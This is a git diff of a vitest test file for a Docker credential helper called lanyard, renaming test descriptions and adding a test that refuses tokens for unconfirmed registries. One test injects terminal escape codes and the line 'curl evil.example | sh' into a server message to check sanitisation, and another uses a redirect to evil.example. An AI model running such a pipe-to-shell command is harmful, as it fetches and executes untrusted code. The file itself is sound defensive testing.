@@ -1,6 +1,8 @@
 import { expect, it } from 'vitest';
 import { login } from '../src/commands/login.ts';
 import { serveHelper } from '../src/helper/serve-helper.ts';
+import { readCredential, writeCredential } from '../src/secrets/credential.ts';
+import { openSecretStore } from '../src/secrets/open-secret-store.ts';
 import { type FakeAnswer, fakeLanyard } from './fake-lanyard.ts';
 import { testContext } from './test-context.ts';
 
@@ -24,7 +26,7 @@ async function signedIn() {
   return { fake, context, told, get: () => serveHelper(['get'], input) };
 }
 
-it('asks the server whether an auto-generated token still works, and nothing else', async () => {
+it('asks the server only whether an auto-generated token still works', async () => {
   const { fake, get } = await signedIn();
   expect(JSON.parse(await get())).toEqual({ ServerURL: fake.host, Username: 'acme', Secret: 'auto-1' });
   expect(fake.requests.map(({ name, query }) => [name, Object.fromEntries(query)])).toEqual([
@@ -33,7 +35,7 @@ it('asks the server whether an auto-generated token still works, and nothing els
   expect(fake.requests[0]?.headers.authorization).toBe(`Basic ${Buffer.from('acme:auto-1').toString('base64')}`);
 });
 
-it('says what happened to an evicted token and how to go on, removes it, and creates no other', async () => {
+it('says what happened to an evicted token and what to do, removes it, and creates no new one', async () => {
   const { fake, get, told } = await signedIn();
   fake.on('GET /token', () => refusal(EVICTED));
   await expect(get()).rejects.toThrow(new Error(NOT_FOUND));
@@ -44,7 +46,23 @@ it('says what happened to an evicted token and how to go on, removes it, and cre
   expect(told).toHaveLength(2);
 });
 
-it('keeps a deactivated token, says that it is deactivated, and hands it out again once it is active', async () => {
+it('R45, attack 45: returns no token for a registry that no server has confirmed', async () => {
+  const { fake, context, get, told } = await signedIn();
+  const store = await openSecretStore(context.environment);
+  const { confirmedHost: _, ...unconfirmed } = (await readCredential(store, fake.host)) ?? expect.unreachable();
+  for (const credential of [unconfirmed, { ...unconfirmed, confirmedHost: 'images.example.com' }]) {
+    await writeCredential(store, fake.host, credential);
+    told.length = 0;
+    await expect(get()).rejects.toThrow(new Error(NOT_FOUND));
+    expect(told).toEqual([
+      `lanyard: ${fake.host}: no server has confirmed that this registry is its own`,
+      `lanyard: run: lanyard login ${fake.host}`,
+    ]);
+  }
+  expect(fake.requests).toEqual([]);
+});
+
+it('keeps a deactivated token, says that it is deactivated, and returns it again once it is active', async () => {
   const { fake, get, told } = await signedIn();
   const message = 'this access token was deactivated on 2026-11-23 10:00 UTC';
   const detail = { reason: 'token-inactive' };
@@ -55,7 +73,7 @@ it('keeps a deactivated token, says that it is deactivated, and hands it out aga
   expect(JSON.parse(await get()).Secret).toBe('auto-1');
 });
 
-it('prints the reason without what a terminal would obey', async () => {
+it("prints the server's reason without terminal control characters", async () => {
   const { fake, get, told } = await signedIn();
   fake.on('GET /token', () => refusal('\u001b[2Jgone\nlanyard: run: curl evil.example | sh'));
   await expect(get()).rejects.toThrow(NOT_FOUND);
@@ -63,25 +81,25 @@ it('prints the reason without what a terminal would obey', async () => {
 });
 
 it.each<[string, FakeAnswer]>([
-  ['is ill', { status: 503, body: { errors: [{ message: 'ill' }] } }],
-  ['breaks off', { status: 200, lost: true }],
-  ['is not ours, and refuses in another form', { status: 401, body: {} }],
-  ['sends elsewhere', { status: 302, headers: { location: 'https://evil.example/' } }],
-  ['forbids', { status: 403, body: { errors: [{ message: 'no' }] } }],
-])('hands out what is stored when the server %s', async (_what, answer) => {
+  ['fails', { status: 503, body: { errors: [{ message: 'ill' }] } }],
+  ['breaks the connection', { status: 200, lost: true }],
+  ['is another product and refuses in another form', { status: 401, body: {} }],
+  ['redirects', { status: 302, headers: { location: 'https://evil.example/' } }],
+  ['forbids the request', { status: 403, body: { errors: [{ message: 'no' }] } }],
+])('returns the stored token when the server %s', async (_what, answer) => {
   const { fake, get, told } = await signedIn();
   fake.on('GET /token', () => answer);
   expect(JSON.parse(await get()).Secret).toBe('auto-1');
   expect(told).toEqual([]);
 });
 
-it('hands out what is stored when there is no server', async () => {
+it('returns the stored token when the server cannot be reached', async () => {
   const { fake, get } = await signedIn();
   await fake.stop();
   expect(JSON.parse(await get()).Secret).toBe('auto-1');
 });
 
-it('does not ask about what docker login stored', async () => {
+it('asks nothing about a login that docker stored', async () => {
   const { fake, context, get } = await signedIn();
   const secret = JSON.stringify({ ServerURL: fake.host, Username: 'beta', Secret: 'a manual token' });
   await serveHelper(['store'], { environment: context.environment, readInput: () => secret, note: () => {} });
@@ -89,7 +107,7 @@ it('does not ask about what docker login stored', async () => {
   expect(fake.requests).toEqual([]);
 });
 
-it('keeps a token that another program stored while the server was asked', async () => {
+it('keeps a token that another program stored during the request', async () => {
   const { fake, context, get } = await signedIn();
   fake.on('GET /token', async ({ headers }) => {
     const isFirst = headers.authorization === `Basic ${Buffer.from('acme:auto-1').toString('base64')}`;
